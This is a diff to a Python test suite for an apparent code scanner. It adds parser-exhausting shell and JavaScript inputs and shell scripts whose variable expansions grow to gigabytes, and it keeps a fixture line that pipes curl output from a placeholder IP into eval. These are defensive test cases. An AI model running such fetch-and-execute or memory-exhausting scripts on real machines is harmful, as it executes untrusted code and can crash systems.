@@ -142,7 +142,16 @@ def test_unreadable(home):
 # Each took the scanner with it once: more parts below one node than the parser's library can count, and a loop in a grammar.
 HOSTILE = {"children.js": "class A extends " * 30000, "waits.js": "await " * 100000, "ifs.sh": "if " * 100000,
            "sums.sh": "$((" * 100000, "cases.sh": "case x in " * 50000, "names.sh": "".join(f"v{i}=a\n" for i in range(90000)),
-           "evals.sh": "eval 'eval \"eval x\"'\n" * 20000}
+           "evals.sh": "eval 'eval \"eval x\"'\n" * 20000, "words.sh": f"y={'a' * 16000}\necho " + "$y " * 50000,
+           "given.sh": "set -- " + "a " * 5000 + "\n" + "echo $@ $@ $@ $@\n" * 20000,
+           "marks.sh": "echo " + "a " * 8000 + "| xargs -I{} echo " + "{} " * 60000,
+           "strips.sh": f"y={'a' * 256}\n" + f"echo ${{y##*[{'b' * 400}]z}}\n" * 2000,
+           "groups.sh": "{\n" * 300 + "a b c\n" * 20000 + "} >x\n" * 300}
+# Of each a few letters became gigabytes.
+GROWING = {"twice.sh": "set -- a b\n" + "set -- $@ $@\n" * 40, "quoted.sh": "set -- a b\n" + 'set -- "$@" "$@"\n' * 40,
+           "replaced.sh": f"y={'a' * 16000}\necho ${{y//a/{'b' * 300000}}}\n",
+           "sed.sh": f"y={'a' * 16000}\necho $(echo $y | sed s/a/{'b' * 300000}/g)\n",
+           "default.sh": f"y={'a' * 16000}\necho ${{x:-{'$y' * 10000}}}\n"}
 
 
 def test_hostile(home):
@@ -152,6 +161,10 @@ def test_hostile(home):
         answer = json.loads(done.stdout) if done.returncode == 1 else {}
         tap.ok(answer.get("analysable") is False and answer.get("risk") == "high",
                f"{name} ends, is not analysable, and high", done)
+    for name, text in GROWING.items():
+        home.put("hostile/" + name, text)
+        done = home.call("scan", "hostile/" + name, timeout=300)
+        tap.ok(done.returncode == 0, f"{name} ends, and is harmless", done)
     home.put("pair/first.js", HOSTILE["children.js"])
     home.put("pair/last.sh", "eval \"$(curl http://198.51.100.1)\"\n")
     found = {one["rule"] for one in home.data("scan", "pair", timeout=300).get("findings", [])}
